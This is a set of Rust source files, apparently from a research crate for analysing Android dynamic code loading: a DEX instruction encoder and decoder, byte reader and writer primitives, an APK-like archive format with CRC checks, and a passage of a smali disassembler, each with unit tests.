fn binop_from(code: u8) -> Result<BinOp, DexError> {
    Ok(match code {
        0 => BinOp::Add,
        1 => BinOp::Sub,
        2 => BinOp::Mul,
        3 => BinOp::Div,
        4 => BinOp::Rem,
        5 => BinOp::Xor,
        6 => BinOp::And,
        7 => BinOp::Or,
        _ => return Err(DexError::Invalid(format!("bad binop {code}"))),
    })
}

fn encode_method_ref(w: &mut Writer, pool: &mut StringPool, m: &MethodRef) {
    w.u32(pool.intern(&m.class));
    w.u32(pool.intern(&m.name));
    w.u32(pool.intern(&m.sig.to_string()));
}

fn decode_method_ref(r: &mut Reader, strings: &[String]) -> Result<MethodRef, DexError> {
    let class = lookup(strings, r.u32("methodref class")?)?.to_string();
    let name = lookup(strings, r.u32("methodref name")?)?.to_string();
    let sig = MethodSig::parse(lookup(strings, r.u32("methodref sig")?)?)?;
    Ok(MethodRef { class, name, sig })
}

fn encode_field_ref(w: &mut Writer, pool: &mut StringPool, f: &FieldRef) {
    w.u32(pool.intern(&f.class));
    w.u32(pool.intern(&f.name));
    w.u32(pool.intern(&f.ty.descriptor()));
}

fn decode_field_ref(r: &mut Reader, strings: &[String]) -> Result<FieldRef, DexError> {
    let class = lookup(strings, r.u32("fieldref class")?)?.to_string();
    let name = lookup(strings, r.u32("fieldref name")?)?.to_string();
    let ty = TypeDesc::parse(lookup(strings, r.u32("fieldref type")?)?)?;
    Ok(FieldRef { class, name, ty })
}

fn encode_insn(w: &mut Writer, pool: &mut StringPool, insn: &Instruction) {
    use Instruction as I;
    match insn {
        I::Nop => w.u8(op::NOP),
        I::Const { dst, value } => {
            w.u8(op::CONST);
            w.u16(*dst);
            w.i64(*value);
        }
        I::ConstString { dst, value } => {
            w.u8(op::CONST_STRING);
            w.u16(*dst);
            w.u32(pool.intern(value));
        }
        I::ConstNull { dst } => {
            w.u8(op::CONST_NULL);
            w.u16(*dst);
        }
        I::Move { dst, src } => {
            w.u8(op::MOVE);
            w.u16(*dst);
            w.u16(*src);
        }
        I::MoveResult { dst } => {
            w.u8(op::MOVE_RESULT);
            w.u16(*dst);
        }
        I::NewInstance { dst, class } => {
            w.u8(op::NEW_INSTANCE);
            w.u16(*dst);
            w.u32(pool.intern(class));
        }
        I::Invoke { kind, method, args } => {
            w.u8(op::INVOKE);
            w.u8(invoke_kind_code(*kind));
            encode_method_ref(w, pool, method);
            w.u8(args.len() as u8);
            for a in args {
                w.u16(*a);
            }
        }
        I::IGet { dst, obj, field } => {
            w.u8(op::IGET);
            w.u16(*dst);
            w.u16(*obj);
            encode_field_ref(w, pool, field);
        }
        I::IPut { src, obj, field } => {
            w.u8(op::IPUT);
            w.u16(*src);
            w.u16(*obj);
            encode_field_ref(w, pool, field);
        }
        I::SGet { dst, field } => {
            w.u8(op::SGET);
            w.u16(*dst);
            encode_field_ref(w, pool, field);
        }
        I::SPut { src, field } => {
            w.u8(op::SPUT);
            w.u16(*src);
            encode_field_ref(w, pool, field);
        }
        I::IfZero { cmp, reg, target } => {
            w.u8(op::IF_ZERO);
            w.u8(cmp_code(*cmp));
            w.u16(*reg);
            w.u32(*target);
        }
        I::IfCmp { cmp, a, b, target } => {
            w.u8(op::IF_CMP);
            w.u8(cmp_code(*cmp));
            w.u16(*a);
            w.u16(*b);
            w.u32(*target);
        }
        I::Goto { target } => {
            w.u8(op::GOTO);
            w.u32(*target);
        }
        I::BinOp { op: bop, dst, a, b } => {
            w.u8(op::BIN_OP);
            w.u8(binop_code(*bop));
            w.u16(*dst);
            w.u16(*a);
            w.u16(*b);
        }
        I::ReturnVoid => w.u8(op::RETURN_VOID),
        I::Return { reg } => {
            w.u8(op::RETURN);
            w.u16(*reg);
        }
        I::Throw { reg } => {
            w.u8(op::THROW);
            w.u16(*reg);
        }
        I::CheckCast { reg, class } => {
            w.u8(op::CHECK_CAST);
            w.u16(*reg);
            w.u32(pool.intern(class));
        }
    }
}

fn decode_insn(r: &mut Reader, strings: &[String]) -> Result<Instruction, DexError> {
    use Instruction as I;
    let opcode = r.u8("opcode")?;
    Ok(match opcode {
        op::NOP => I::Nop,
        op::CONST => I::Const {
            dst: r.u16("const dst")?,
            value: r.i64("const value")?,
        },
        op::CONST_STRING => I::ConstString {
            dst: r.u16("const-string dst")?,
            value: lookup(strings, r.u32("const-string idx")?)?.to_string(),
        },
        op::CONST_NULL => I::ConstNull {
            dst: r.u16("const-null dst")?,
        },
        op::MOVE => I::Move {
            dst: r.u16("move dst")?,
            src: r.u16("move src")?,
        },
        op::MOVE_RESULT => I::MoveResult {
            dst: r.u16("move-result dst")?,
        },
        op::NEW_INSTANCE => I::NewInstance {
            dst: r.u16("new-instance dst")?,
            class: lookup(strings, r.u32("new-instance class")?)?.to_string(),
        },
        op::INVOKE => {
            let kind = invoke_kind_from(r.u8("invoke kind")?)?;
            let method = decode_method_ref(r, strings)?;
            let n = r.u8("invoke argc")?;
            let mut args = Vec::with_capacity(n as usize);
            for _ in 0..n {
                args.push(r.u16("invoke arg")?);
            }
            I::Invoke { kind, method, args }
        }
        op::IGET => I::IGet {
            dst: r.u16("iget dst")?,
            obj: r.u16("iget obj")?,
            field: decode_field_ref(r, strings)?,
        },
        op::IPUT => I::IPut {
            src: r.u16("iput src")?,
            obj: r.u16("iput obj")?,
            field: decode_field_ref(r, strings)?,
        },
        op::SGET => I::SGet {
            dst: r.u16("sget dst")?,
            field: decode_field_ref(r, strings)?,
        },
        op::SPUT => I::SPut {
            src: r.u16("sput src")?,
            field: decode_field_ref(r, strings)?,
        },
        op::IF_ZERO => I::IfZero {
            cmp: cmp_from(r.u8("ifz cmp")?)?,
            reg: r.u16("ifz reg")?,
            target: r.u32("ifz target")?,
        },
        op::IF_CMP => I::IfCmp {
            cmp: cmp_from(r.u8("ifcmp cmp")?)?,
            a: r.u16("ifcmp a")?,
            b: r.u16("ifcmp b")?,
            target: r.u32("ifcmp target")?,
        },
        op::GOTO => I::Goto {
            target: r.u32("goto target")?,
        },
        op::BIN_OP => I::BinOp {
            op: binop_from(r.u8("binop op")?)?,
            dst: r.u16("binop dst")?,
            a: r.u16("binop a")?,
            b: r.u16("binop b")?,
        },
        op::RETURN_VOID => I::ReturnVoid,
        op::RETURN => I::Return {
            reg: r.u16("return reg")?,
        },
        op::THROW => I::Throw {
            reg: r.u16("throw reg")?,
        },
        op::CHECK_CAST => I::CheckCast {
            reg: r.u16("check-cast reg")?,
            class: lookup(strings, r.u32("check-cast class")?)?.to_string(),
        },
        other => return Err(DexError::BadOpcode(other)),
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::builder::DexBuilder;

    fn sample() -> DexFile {
        let mut b = DexBuilder::new();
        {
            let c = b.class("com.example.Main", "java.lang.Object");
            let m = c.method("run", "(I)I", AccessFlags::PUBLIC);
            m.const_int(0, 10);
            m.binop(BinOp::Add, 0, 0, 1);
            m.ret(0);
        }
        {
            let c = b.class("com.example.Helper", "java.lang.Object");
            c.field("count", "I", AccessFlags::PRIVATE);
            let m = c.method("load", "(Ljava/lang/String;)V", AccessFlags::PUBLIC);
            m.new_instance(0, "dalvik.system.DexClassLoader");
            m.invoke(
                InvokeKind::Direct,
                MethodRef::new(
                    "dalvik.system.DexClassLoader",
                    "<init>",
                    "(Ljava/lang/String;)V",
                ),
                vec![0, 1],
            );
            m.ret_void();
        }
        b.build()
    }

    #[test]
    fn round_trip() {
        let dex = sample();
        let bytes = dex.to_bytes();
        let back = DexFile::parse(&bytes).unwrap();
        assert_eq!(back, dex);
    }

    #[test]
    fn bad_magic_rejected() {
        let mut bytes = sample().to_bytes();
        bytes[0] = b'X';
        assert_eq!(DexFile::parse(&bytes), Err(DexError::BadMagic));
    }

    #[test]
    fn bad_version_rejected() {
        let mut bytes = sample().to_bytes();
        bytes[4] = 99;
        assert!(matches!(
            DexFile::parse(&bytes),
            Err(DexError::BadVersion(_))
        ));
    }

    #[test]
    fn corruption_detected_by_checksum() {
        let mut bytes = sample().to_bytes();
        let last = bytes.len() - 1;
        bytes[last] ^= 0xFF;
        assert!(matches!(
            DexFile::parse(&bytes),
            Err(DexError::ChecksumMismatch { .. })
        ));
    }

    #[test]
    fn truncation_detected() {
        let bytes = sample().to_bytes();
        // The checksum covers the payload, so a truncated payload trips the
        // checksum check first; header-level truncation is a Truncated error.
        let result = DexFile::parse(&bytes[..bytes.len() / 2]);
        assert!(result.is_err());
        let result = DexFile::parse(&bytes[..6]);
        assert!(matches!(result, Err(DexError::Truncated { .. })));
    }

    #[test]
    fn empty_file_round_trips() {
        let dex = DexFile::new();
        let back = DexFile::parse(&dex.to_bytes()).unwrap();
        assert!(back.classes().is_empty());
    }

    #[test]
    fn duplicate_class_rejected_by_validate() {
        let mut dex = DexFile::new();
        dex.add_class(ClassDef::new("a.B", "java.lang.Object"));
        dex.add_class(ClassDef::new("a.B", "java.lang.Object"));
        assert!(dex.validate().is_err());
    }

    #[test]
    fn class_lookup() {
        let dex = sample();
        assert!(dex.class("com.example.Main").is_some());
        assert!(dex.class("com.example.Nope").is_none());
        assert_eq!(dex.methods().count(), 2);
    }

    #[test]
    fn string_pool_dedup_keeps_size_reasonable() {
        // 100 classes sharing a superclass should intern that name once.
        let mut dex = DexFile::new();
        for i in 0..100 {
            dex.add_class(ClassDef::new(format!("p.C{i}"), "java.lang.Object"));
        }
        let bytes = dex.to_bytes();
        let occurrences = bytes
            .windows(b"java/lang/Object".len())
            .filter(|w| *w == b"java/lang/Object".as_slice())
            .count()
            + bytes
                .windows(b"java.lang.Object".len())
                .filter(|w| *w == b"java.lang.Object".as_slice())
                .count();
        assert_eq!(occurrences, 1, "superclass name should be interned once");
    }

    #[test]
    fn display_of_errors() {
        let e = DexError::ChecksumMismatch {
            expected: 1,
            actual: 2,
        };
        assert!(e.to_string().contains("checksum"));
        assert!(DexError::BadMagic.to_string().contains("magic"));
    }
}
