//! Low-level byte cursor primitives shared by the DEX, APK and native
//! library encodings.
//!
//! All multi-byte integers are little-endian. Strings are length-prefixed
//! UTF-8. The reader reports structured errors on truncation or invalid
//! data instead of panicking, which the decompiler failure-mode analysis
//! relies on.

use bytes::{Buf, BufMut, Bytes, BytesMut};

use crate::DexError;

/// A growable little-endian byte writer.
#[derive(Debug, Default)]
pub struct Writer {
    buf: BytesMut,
}

impl Writer {
    /// Creates an empty writer.
    pub fn new() -> Self {
        Writer {
            buf: BytesMut::new(),
        }
    }

    /// Appends a single byte.
    pub fn u8(&mut self, v: u8) {
        self.buf.put_u8(v);
    }

    /// Appends a little-endian `u16`.
    pub fn u16(&mut self, v: u16) {
        self.buf.put_u16_le(v);
    }

    /// Appends a little-endian `u32`.
    pub fn u32(&mut self, v: u32) {
        self.buf.put_u32_le(v);
    }

    /// Appends a little-endian `u64`.
    pub fn u64(&mut self, v: u64) {
        self.buf.put_u64_le(v);
    }

    /// Appends a little-endian `i64`.
    pub fn i64(&mut self, v: i64) {
        self.buf.put_i64_le(v);
    }

    /// Appends raw bytes.
    pub fn bytes(&mut self, v: &[u8]) {
        self.buf.put_slice(v);
    }

    /// Appends a `u32` length prefix followed by UTF-8 bytes.
    pub fn str(&mut self, v: &str) {
        self.u32(v.len() as u32);
        self.bytes(v.as_bytes());
    }

    /// Appends a `u32` length prefix followed by raw bytes.
    pub fn blob(&mut self, v: &[u8]) {
        self.u32(v.len() as u32);
        self.bytes(v);
    }

    /// Current length in bytes.
    pub fn len(&self) -> usize {
        self.buf.len()
    }

    /// Whether nothing has been written.
    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }

    /// Finishes and returns the accumulated bytes.
    pub fn into_bytes(self) -> Vec<u8> {
        self.buf.to_vec()
    }
}

/// A checked little-endian byte reader over a borrowed buffer.
#[derive(Debug)]
pub struct Reader {
    buf: Bytes,
}

impl Reader {
    /// Creates a reader over `data`.
    pub fn new(data: &[u8]) -> Self {
        Reader {
            buf: Bytes::copy_from_slice(data),
        }
    }

    fn need(&self, n: usize, what: &str) -> Result<(), DexError> {
        if self.buf.remaining() < n {
            Err(DexError::Truncated {
                what: what.to_string(),
                needed: n,
                available: self.buf.remaining(),
            })
        } else {
            Ok(())
        }
    }

    /// Reads one byte.
    ///
    /// # Errors
    ///
    /// Returns [`DexError::Truncated`] when the buffer is exhausted.
    pub fn u8(&mut self, what: &str) -> Result<u8, DexError> {
        self.need(1, what)?;
        Ok(self.buf.get_u8())
    }

    /// Reads a little-endian `u16`.
    ///
    /// # Errors
    ///
    /// Returns [`DexError::Truncated`] when fewer than 2 bytes remain.
    pub fn u16(&mut self, what: &str) -> Result<u16, DexError> {
        self.need(2, what)?;
        Ok(self.buf.get_u16_le())
    }

    /// Reads a little-endian `u32`.
    ///
    /// # Errors
    ///
    /// Returns [`DexError::Truncated`] when fewer than 4 bytes remain.
    pub fn u32(&mut self, what: &str) -> Result<u32, DexError> {
        self.need(4, what)?;
        Ok(self.buf.get_u32_le())
    }

    /// Reads a little-endian `u64`.
    ///
    /// # Errors
    ///
    /// Returns [`DexError::Truncated`] when fewer than 8 bytes remain.
    pub fn u64(&mut self, what: &str) -> Result<u64, DexError> {
        self.need(8, what)?;
        Ok(self.buf.get_u64_le())
    }

    /// Reads a little-endian `i64`.
    ///
    /// # Errors
    ///
    /// Returns [`DexError::Truncated`] when fewer than 8 bytes remain.
    pub fn i64(&mut self, what: &str) -> Result<i64, DexError> {
        self.need(8, what)?;
        Ok(self.buf.get_i64_le())
    }

    /// Reads exactly `n` raw bytes.
    ///
    /// # Errors
    ///
    /// Returns [`DexError::Truncated`] when fewer than `n` bytes remain.
    pub fn take(&mut self, n: usize, what: &str) -> Result<Vec<u8>, DexError> {
        self.need(n, what)?;
        let mut out = vec![0u8; n];
        self.buf.copy_to_slice(&mut out);
        Ok(out)
    }

    /// Reads a length-prefixed UTF-8 string.
    ///
    /// # Errors
    ///
    /// Returns [`DexError::Truncated`] on short input or
    /// [`DexError::Invalid`] on non-UTF-8 bytes or an absurd length.
    pub fn str(&mut self, what: &str) -> Result<String, DexError> {
        let len = self.u32(what)? as usize;
        if len > self.buf.remaining() {
            return Err(DexError::Truncated {
                what: what.to_string(),
                needed: len,
                available: self.buf.remaining(),
            });
        }
        let raw = self.take(len, what)?;
        String::from_utf8(raw).map_err(|_| DexError::Invalid(format!("{what}: invalid UTF-8")))
    }

    /// Reads a length-prefixed blob.
    ///
    /// # Errors
    ///
    /// Returns [`DexError::Truncated`] on short input.
    pub fn blob(&mut self, what: &str) -> Result<Vec<u8>, DexError> {
        let len = self.u32(what)? as usize;
        if len > self.buf.remaining() {
            return Err(DexError::Truncated {
                what: what.to_string(),
                needed: len,
                available: self.buf.remaining(),
            });
        }
        self.take(len, what)
    }

    /// Remaining unread bytes.
    pub fn remaining(&self) -> usize {
        self.buf.remaining()
    }

    /// Whether the reader is fully consumed.
    pub fn is_exhausted(&self) -> bool {
        !self.buf.has_remaining()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip_scalars() {
        let mut w = Writer::new();
        w.u8(0xAB);
        w.u16(0x1234);
        w.u32(0xDEAD_BEEF);
        w.u64(0x0102_0304_0506_0708);
        w.i64(-42);
        let bytes = w.into_bytes();
        let mut r = Reader::new(&bytes);
        assert_eq!(r.u8("a").unwrap(), 0xAB);
        assert_eq!(r.u16("b").unwrap(), 0x1234);
        assert_eq!(r.u32("c").unwrap(), 0xDEAD_BEEF);
        assert_eq!(r.u64("d").unwrap(), 0x0102_0304_0506_0708);
        assert_eq!(r.i64("e").unwrap(), -42);
        assert!(r.is_exhausted());
    }

    #[test]
    fn round_trip_strings_and_blobs() {
        let mut w = Writer::new();
        w.str("héllo");
        w.blob(&[1, 2, 3]);
        let bytes = w.into_bytes();
        let mut r = Reader::new(&bytes);
        assert_eq!(r.str("s").unwrap(), "héllo");
        assert_eq!(r.blob("b").unwrap(), vec![1, 2, 3]);
    }

    #[test]
    fn truncation_is_reported() {
        let mut w = Writer::new();
        w.u32(10);
        let bytes = w.into_bytes();
        let mut r = Reader::new(&bytes);
        let err = r.str("name").unwrap_err();
        assert!(matches!(err, DexError::Truncated { .. }), "{err:?}");
    }

    #[test]
    fn invalid_utf8_is_reported() {
        let mut w = Writer::new();
        w.u32(2);
        w.bytes(&[0xFF, 0xFE]);
        let bytes = w.into_bytes();
        let mut r = Reader::new(&bytes);
        let err = r.str("name").unwrap_err();
        assert!(matches!(err, DexError::Invalid(_)), "{err:?}");
    }

    #[test]
    fn oversized_length_prefix_is_truncation_not_alloc() {
        // A hostile length prefix must not cause a huge allocation.
        let mut w = Writer::new();
        w.u32(u32::MAX);
        let bytes = w.into_bytes();
        let mut r = Reader::new(&bytes);
        assert!(matches!(r.blob("b"), Err(DexError::Truncated { .. })));
    }
}
