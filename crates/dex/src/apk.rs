//! The APK-like archive container.
//!
//! A simplified stand-in for ZIP: a magic header followed by named entries,
//! each carrying a CRC-32 that is verified on read. Provides the standard
//! well-known entries (`AndroidManifest.xml`, `classes.dex`, `assets/…`,
//! `lib/…`) plus anti-repackaging and anti-decompilation markers that the
//! decompiler failure modes in Table II exercise.

use std::fmt;

use serde::{Deserialize, Serialize};

use crate::checksum::crc32;
use crate::dexfile::DexFile;
use crate::encode::{Reader, Writer};
use crate::manifest::Manifest;
use crate::{DexError, ManifestError};

/// Magic bytes of an encoded archive.
pub const APK_MAGIC: &[u8; 4] = b"SAPK";

/// Errors produced by APK packing and unpacking.
#[derive(Debug, Clone, PartialEq)]
pub enum ApkError {
    /// The file does not start with [`APK_MAGIC`].
    BadMagic,
    /// An entry's stored CRC-32 does not match its data.
    CrcMismatch {
        /// Entry path.
        entry: String,
    },
    /// The archive ended early or an entry is malformed.
    Malformed(String),
    /// A well-known entry is missing.
    MissingEntry(&'static str),
    /// The embedded manifest failed to parse.
    Manifest(ManifestError),
    /// The embedded `classes.dex` failed to parse.
    Dex(DexError),
}

impl fmt::Display for ApkError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ApkError::BadMagic => write!(f, "bad magic, not an apk"),
            ApkError::CrcMismatch { entry } => write!(f, "crc mismatch in entry {entry:?}"),
            ApkError::Malformed(msg) => write!(f, "malformed apk: {msg}"),
            ApkError::MissingEntry(e) => write!(f, "apk missing entry {e:?}"),
            ApkError::Manifest(e) => write!(f, "apk manifest: {e}"),
            ApkError::Dex(e) => write!(f, "apk classes.dex: {e}"),
        }
    }
}

impl std::error::Error for ApkError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            ApkError::Manifest(e) => Some(e),
            ApkError::Dex(e) => Some(e),
            _ => None,
        }
    }
}

impl From<ManifestError> for ApkError {
    fn from(e: ManifestError) -> Self {
        ApkError::Manifest(e)
    }
}

impl From<DexError> for ApkError {
    fn from(e: DexError) -> Self {
        ApkError::Dex(e)
    }
}

/// One named entry in the archive.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ApkEntry {
    /// Entry path, e.g. `classes.dex` or `assets/payload.bin`.
    pub path: String,
    /// Raw entry bytes.
    pub data: Vec<u8>,
}

impl ApkEntry {
    /// Creates an entry.
    pub fn new(path: impl Into<String>, data: Vec<u8>) -> Self {
        ApkEntry {
            path: path.into(),
            data,
        }
    }
}

/// Well-known entry path of the manifest.
pub const MANIFEST_ENTRY: &str = "AndroidManifest.xml";
/// Well-known entry path of the primary bytecode.
pub const CLASSES_ENTRY: &str = "classes.dex";

/// An APK-like archive: an ordered list of entries.
///
/// # Example
///
/// ```
/// use dydroid_dex::{Apk, DexFile, Manifest};
///
/// let apk = Apk::build(Manifest::new("com.example.app"), DexFile::new());
/// let bytes = apk.to_bytes();
/// let back = Apk::parse(&bytes)?;
/// assert_eq!(back.manifest()?.package, "com.example.app");
/// # Ok::<(), dydroid_dex::ApkError>(())
/// ```
#[derive(Debug, Clone, PartialEq, Default, Serialize, Deserialize)]
pub struct Apk {
    entries: Vec<ApkEntry>,
}

impl Apk {
    /// Creates an empty archive.
    pub fn new() -> Self {
        Apk {
            entries: Vec::new(),
        }
    }

    /// Builds an archive with the two mandatory entries.
    pub fn build(manifest: Manifest, classes: DexFile) -> Self {
        let mut apk = Apk::new();
        apk.put(MANIFEST_ENTRY, manifest.to_text().into_bytes());
        apk.put(CLASSES_ENTRY, classes.to_bytes());
        apk
    }

    /// Inserts or replaces an entry by path.
    pub fn put(&mut self, path: impl Into<String>, data: Vec<u8>) {
        let path = path.into();
        if let Some(e) = self.entries.iter_mut().find(|e| e.path == path) {
            e.data = data;
        } else {
            self.entries.push(ApkEntry::new(path, data));
        }
    }

    /// Looks up an entry's bytes.
    pub fn entry(&self, path: &str) -> Option<&[u8]> {
        self.entries
            .iter()
            .find(|e| e.path == path)
            .map(|e| e.data.as_slice())
    }

    /// Removes an entry; returns whether it existed.
    pub fn remove(&mut self, path: &str) -> bool {
        let before = self.entries.len();
        self.entries.retain(|e| e.path != path);
        self.entries.len() != before
    }

    /// All entries in insertion order.
    pub fn entries(&self) -> &[ApkEntry] {
        &self.entries
    }

    /// Entries under a path prefix, e.g. `assets/` or `lib/`.
    pub fn entries_under<'a>(&'a self, prefix: &'a str) -> impl Iterator<Item = &'a ApkEntry> {
        self.entries
            .iter()
            .filter(move |e| e.path.starts_with(prefix))
    }

    /// Parses and returns the manifest.
    ///
    /// # Errors
    ///
    /// Returns [`ApkError::MissingEntry`] or [`ApkError::Manifest`].
    pub fn manifest(&self) -> Result<Manifest, ApkError> {
        let data = self
            .entry(MANIFEST_ENTRY)
            .ok_or(ApkError::MissingEntry(MANIFEST_ENTRY))?;
        let text = String::from_utf8(data.to_vec())
            .map_err(|_| ApkError::Malformed("manifest is not UTF-8".to_string()))?;
        Ok(Manifest::parse(&text)?)
    }

    /// Replaces the manifest entry.
    pub fn set_manifest(&mut self, manifest: &Manifest) {
        self.put(MANIFEST_ENTRY, manifest.to_text().into_bytes());
    }

    /// Parses and returns the primary `classes.dex`.
    ///
    /// # Errors
    ///
    /// Returns [`ApkError::MissingEntry`] or [`ApkError::Dex`].
    pub fn classes(&self) -> Result<DexFile, ApkError> {
        let data = self
            .entry(CLASSES_ENTRY)
            .ok_or(ApkError::MissingEntry(CLASSES_ENTRY))?;
        Ok(DexFile::parse(data)?)
    }

    /// Replaces the `classes.dex` entry.
    pub fn set_classes(&mut self, classes: &DexFile) {
        self.put(CLASSES_ENTRY, classes.to_bytes());
    }

    /// Serialises the archive.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut w = Writer::new();
        w.bytes(APK_MAGIC);
        w.u32(self.entries.len() as u32);
        for e in &self.entries {
            w.str(&e.path);
            w.u32(crc32(&e.data));
            w.blob(&e.data);
        }
        w.into_bytes()
    }

    /// Parses an archive, verifying per-entry CRCs.
    ///
    /// # Errors
    ///
    /// Returns [`ApkError::BadMagic`], [`ApkError::Malformed`] on structural
    /// problems, or [`ApkError::CrcMismatch`] on corrupted entries.
    pub fn parse(data: &[u8]) -> Result<Self, ApkError> {
        let mut r = Reader::new(data);
        let magic = r
            .take(4, "apk magic")
            .map_err(|e| ApkError::Malformed(e.to_string()))?;
        if magic != APK_MAGIC {
            return Err(ApkError::BadMagic);
        }
        let count = r
            .u32("entry count")
            .map_err(|e| ApkError::Malformed(e.to_string()))?;
        let mut entries = Vec::with_capacity(count.min(65_536) as usize);
        for _ in 0..count {
            let path = r
                .str("entry path")
                .map_err(|e| ApkError::Malformed(e.to_string()))?;
            let stored_crc = r
                .u32("entry crc")
                .map_err(|e| ApkError::Malformed(e.to_string()))?;
            let data = r
                .blob("entry data")
                .map_err(|e| ApkError::Malformed(e.to_string()))?;
            if crc32(&data) != stored_crc {
                return Err(ApkError::CrcMismatch { entry: path });
            }
            entries.push(ApkEntry { path, data });
        }
        Ok(Apk { entries })
    }

    /// Total payload size across entries, in bytes.
    pub fn payload_size(&self) -> usize {
        self.entries.iter().map(|e| e.data.len()).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::class::ClassDef;

    fn sample() -> Apk {
        let mut dex = DexFile::new();
        dex.add_class(ClassDef::new("com.example.Main", "java.lang.Object"));
        let mut apk = Apk::build(Manifest::new("com.example.app"), dex);
        apk.put("assets/payload.bin", vec![1, 2, 3, 4]);
        apk.put("lib/armeabi/libnative.so", vec![9, 9]);
        apk
    }

    #[test]
    fn round_trip() {
        let apk = sample();
        let back = Apk::parse(&apk.to_bytes()).unwrap();
        assert_eq!(back, apk);
    }

    #[test]
    fn manifest_and_classes_accessors() {
        let apk = sample();
        assert_eq!(apk.manifest().unwrap().package, "com.example.app");
        assert_eq!(apk.classes().unwrap().classes().len(), 1);
    }

    #[test]
    fn bad_magic() {
        let mut bytes = sample().to_bytes();
        bytes[0] = b'Z';
        assert_eq!(Apk::parse(&bytes), Err(ApkError::BadMagic));
    }

    #[test]
    fn entry_corruption_detected() {
        let apk = sample();
        let mut bytes = apk.to_bytes();
        // Flip a byte near the end (inside the last entry's data).
        let last = bytes.len() - 1;
        bytes[last] ^= 0xFF;
        assert!(matches!(
            Apk::parse(&bytes),
            Err(ApkError::CrcMismatch { .. })
        ));
    }

    #[test]
    fn truncated_archive_is_malformed() {
        let bytes = sample().to_bytes();
        assert!(matches!(
            Apk::parse(&bytes[..bytes.len() - 3]),
            Err(ApkError::Malformed(_) | ApkError::CrcMismatch { .. })
        ));
    }

    #[test]
    fn put_replaces() {
        let mut apk = sample();
        let n = apk.entries().len();
        apk.put("assets/payload.bin", vec![7]);
        assert_eq!(apk.entries().len(), n);
        assert_eq!(apk.entry("assets/payload.bin"), Some(&[7u8][..]));
    }

    #[test]
    fn remove_entry() {
        let mut apk = sample();
        assert!(apk.remove("assets/payload.bin"));
        assert!(!apk.remove("assets/payload.bin"));
        assert!(apk.entry("assets/payload.bin").is_none());
    }

    #[test]
    fn entries_under_prefix() {
        let apk = sample();
        assert_eq!(apk.entries_under("assets/").count(), 1);
        assert_eq!(apk.entries_under("lib/").count(), 1);
        assert_eq!(apk.entries_under("res/").count(), 0);
    }

    #[test]
    fn missing_entries_reported() {
        let apk = Apk::new();
        assert_eq!(apk.manifest(), Err(ApkError::MissingEntry(MANIFEST_ENTRY)));
        assert_eq!(apk.classes(), Err(ApkError::MissingEntry(CLASSES_ENTRY)));
    }

    #[test]
    fn payload_size() {
        let apk = sample();
        assert!(apk.payload_size() > 6);
    }

    #[test]
    fn set_manifest_round_trip() {
        let mut apk = sample();
        let mut m = apk.manifest().unwrap();
        m.add_permission(crate::manifest::WRITE_EXTERNAL_STORAGE);
        apk.set_manifest(&m);
        assert!(apk
            .manifest()
            .unwrap()
            .has_permission(crate::manifest::WRITE_EXTERNAL_STORAGE));
    }
}
