//! Smali-like textual IR: disassembler and assembler.
//!
//! DyDroid unpacks each APK with baksmali into smali before the static
//! pre-filter and obfuscation analysis run. This module provides the
//! equivalent: [`disassemble`] renders a [`DexFile`] to one text unit per
//! class and [`assemble`] parses the text back, round-tripping exactly.
//!
//! Branch targets print as `:N` where `N` is the absolute instruction index
//! (the simplified ISA has no label names).

use crate::class::{AccessFlags, ClassDef, Field, Method};
use crate::dexfile::{DexError, DexFile};
use crate::instruction::{BinOp, CmpKind, Instruction, InvokeKind, Reg};
use crate::refs::{FieldRef, MethodRef, MethodSig};
use crate::types::TypeDesc;

/// Renders an entire DEX file as smali text, one `.class` block per class,
/// classes separated by blank lines.
pub fn disassemble(dex: &DexFile) -> String {
    let mut out = String::new();
    for (i, class) in dex.classes().iter().enumerate() {
        if i > 0 {
            out.push('\n');
        }
        out.push_str(&disassemble_class(class));
    }
    out
}

/// Renders one class as smali text.
pub fn disassemble_class(class: &ClassDef) -> String {
    let mut out = String::new();
    let kw = class.flags.keywords();
    let kw = if kw.is_empty() {
        String::new()
    } else {
        format!("{kw} ")
    };
    out.push_str(&format!(
        ".class {kw}{}\n",
        TypeDesc::class(class.name.clone()).descriptor()
    ));
    out.push_str(&format!(
        ".super {}\n",
        TypeDesc::class(class.superclass.clone()).descriptor()
    ));
    if let Some(sf) = &class.source_file {
        out.push_str(&format!(".source {sf:?}\n"));
    }
    for iface in &class.interfaces {
        out.push_str(&format!(
            ".implements {}\n",
            TypeDesc::class(iface.clone()).descriptor()
        ));
    }
    for field in &class.fields {
        let kw = field.flags.keywords();
        let kw = if kw.is_empty() {
            String::new()
        } else {
            format!("{kw} ")
        };
        out.push_str(&format!(
            ".field {kw}{}:{}\n",
            field.name,
            field.ty.descriptor()
        ));
    }
    for method in &class.methods {
        out.push('\n');
        out.push_str(&disassemble_method(method));
    }
    out
}

fn disassemble_method(method: &Method) -> String {
    let mut out = String::new();
    let kw = method.flags.keywords();
    let kw = if kw.is_empty() {
        String::new()
    } else {
        format!("{kw} ")
    };
    out.push_str(&format!(".method {kw}{}{}\n", method.name, method.sig));
    out.push_str(&format!("    .registers {}\n", method.registers));
    for insn in &method.code {
        out.push_str(&format!("    {insn}\n"));
    }
    out.push_str(".end method\n");
    out
}

/// Parses smali text back into a [`DexFile`].
///
/// # Errors
///
/// Returns [`DexError::Invalid`] naming the offending line on any syntax
/// error, and propagates descriptor errors.
pub fn assemble(text: &str) -> Result<DexFile, DexError> {
    let mut dex = DexFile::new();
    let mut lines = text.lines().peekable();
    while let Some(&line) = lines.peek() {
        let trimmed = line.trim();
        if trimmed.is_empty() {
            lines.next();
            continue;
        }
        if trimmed.starts_with(".class") {
            dex.add_class(parse_class(&mut lines)?);
        } else {
            return Err(DexError::Invalid(format!(
                "expected .class, got {trimmed:?}"
            )));
        }
    }
    Ok(dex)
}

fn parse_flags_and_rest(words: &mut Vec<&str>) -> AccessFlags {
    let mut flags = AccessFlags::empty();
    while let Some(first) = words.first() {
        match AccessFlags::from_keyword(first) {
            Some(f) => {
                flags = flags | f;
                words.remove(0);
            }
            None => break,
        }
    }
